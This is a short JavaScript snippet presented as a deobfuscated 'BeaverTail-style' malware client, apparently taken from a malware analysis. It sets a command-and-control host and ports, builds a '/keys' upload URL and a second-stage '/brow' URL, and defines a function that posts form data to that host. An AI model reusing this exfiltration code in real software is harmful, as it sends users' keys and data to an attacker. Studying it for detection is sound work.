// BeaverTail-style client (after deobfuscation): the C2 host, the port and
// the path are kept apart and put together at run time.
const request = require('request');
const host = '198.51.100.41';
const port = 1224;
const base = `http://${host}:${port}`;
const keysUrl = 'http://' + host + ':1244/keys';
const ferret = `${base.replace(':1224', '')}:2245/brow`;

function upload(formData) {
  request.post({ url: keysUrl, formData }, () => {});
}
module.exports = { base, ferret, upload };
